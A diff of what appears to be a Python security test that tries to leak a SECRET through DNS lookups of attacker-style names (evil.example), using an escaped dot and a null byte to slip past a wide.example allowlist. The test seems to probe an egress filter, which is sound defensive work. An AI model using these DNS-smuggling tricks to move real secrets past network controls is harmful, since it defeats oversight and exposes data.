@@ -12,7 +12,11 @@ from attack import SECRET, attempt
 @attempt
 def ask():
     # libc reads \046 as a dot inside of a label: one label, and not the two that it looks like.
-    for name in (SECRET + "\\046evil\\046wide.example", SECRET + ".evil.example\x00.wide.example", SECRET + ".evil.example"):
+    for name in (
+        SECRET + "\\046evil\\046wide.example",
+        SECRET + ".evil.example\x00.wide.example",
+        SECRET + ".evil.example",
+    ):
         try:
             if socket.getaddrinfo(name.encode(), 443):
                 return True
